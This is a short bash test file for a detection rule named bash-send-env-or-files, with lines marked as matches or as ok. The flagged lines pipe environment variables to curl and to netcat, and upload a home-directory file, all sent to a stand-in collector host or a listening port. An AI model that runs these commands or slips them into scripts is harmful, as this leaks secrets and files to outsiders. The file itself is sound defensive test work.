#!/bin/bash

# ruleid: bash-send-env-or-files
env | curl -s -X POST --data-binary @- http://collector.exfil.invalid/e

# ruleid: bash-send-env-or-files
curl -s -F "f=@$HOME/notes.txt" http://collector.exfil.invalid/u

# ruleid: bash-send-env-or-files
printenv | nc 127.0.0.1 4444

# ok: bash-send-env-or-files
curl -s -X POST -d '{"q":"weather"}' http://127.0.0.1:8080/api
